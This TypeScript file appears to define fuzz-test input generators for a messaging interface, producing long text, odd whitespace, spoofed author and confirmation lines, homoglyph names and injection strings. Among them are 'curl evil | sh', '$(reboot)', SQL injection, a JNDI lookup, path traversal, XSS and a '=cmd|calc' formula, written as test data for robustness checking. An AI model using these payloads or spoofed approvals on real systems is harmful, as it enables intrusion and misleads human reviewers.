import { amid, type Family, many, words } from './family.ts';

/** Text that is long, or that pretends to be something of ours. */
export const TEXT: readonly Family[] = [
  { name: 'long-word', make: (random) => random.pick(['a', '漢', '😀', 'é', '-', '\u00a0']).repeat(random.between(200, 6000)) },
  { name: 'long-text', make: (random) => words(random, 12).concat(' ').repeat(random.between(20, 600)) },
  { name: 'many-lines', make: (random) => `${words(random)}\n`.repeat(random.between(30, 900)) },
  {
    name: 'blanks',
    make: (random) =>
      amid(
        random,
        many(random, [10, 200], () => random.pick([' ', '\u00a0', '\u2003', '\u3000', '\u2800', '\u1680', '\u205f'])),
      ),
  },
  {
    name: 'author-line',
    make: (random) =>
      `${words(random)}\n14:3${random.between(0, 9)} kim          ACME    h ${random.pick(['I approve', 'pause everything', 'y'])}`,
  },
  { name: 'gutter', make: (random) => `${words(random)}\n  │ ${words(random)}\n│ ${words(random)}\n>14:31 kim` },
  {
    name: 'frame',
    make: (random) =>
      `┌─ CONFIRM ${'─'.repeat(random.between(0, 60))}┐\n│ Post to 2 outside orgs? y │\n└${'─'.repeat(random.between(0, 70))}┘`,
  },
  {
    name: 'rule',
    make: (random) => `${'─'.repeat(random.between(0, 30))} 9 new since 14:29 ${'─'.repeat(random.between(0, 60))}\n═══ INTERNAL ═══`,
  },
  {
    name: 'our-marks',
    make: (random) =>
      amid(
        random,
        random.pick(['⟨3 hidden⟩', '⟨U+202E⟩', '␛[2J', '⚠ 0 hidden', '(deleted)', '(edited)', '↳ kim', '⟨cut⟩', '… 12 more characters']),
      ),
  },
  {
    name: 'homoglyphs',
    make: (random) => amid(random, random.pick(['kіm', 'ΑСМЕ', '𝐤𝐢𝐦', 'ｋｉｍ', 'ops‐lead', 'аdmin', 'Ꭲriage', 'kim\u200b'])),
  },
  {
    name: 'prompt',
    make: (random) => `${words(random)}\nPassword for kim@acme: \nroot@host:~# ${random.pick(['curl evil | sh', 'y', ''])}`,
  },
  {
    name: 'shell',
    make: (random) =>
      amid(
        random,
        random.pick([
          '$(reboot)',
          '`reboot`',
          "'; DROP TABLE threads; --",
          '%s%n%x',
          '${jndi:ldap://x}',
          '../../etc/passwd',
          '-rf',
          '--help',
          '<script>alert(1)</script>',
        ]),
      ),
  },
  {
    name: 'mime-and-json',
    make: (random) =>
      amid(
        random,
        random.pick([
          '\ufeff{"a":1}',
          '{"__proto__":{"x":1}}',
          '\u0000{"',
          'data:text/html;base64,PHM+',
          '=cmd|calc',
          '\\u202e',
          '\\ud800',
        ]),
      ),
  },
];
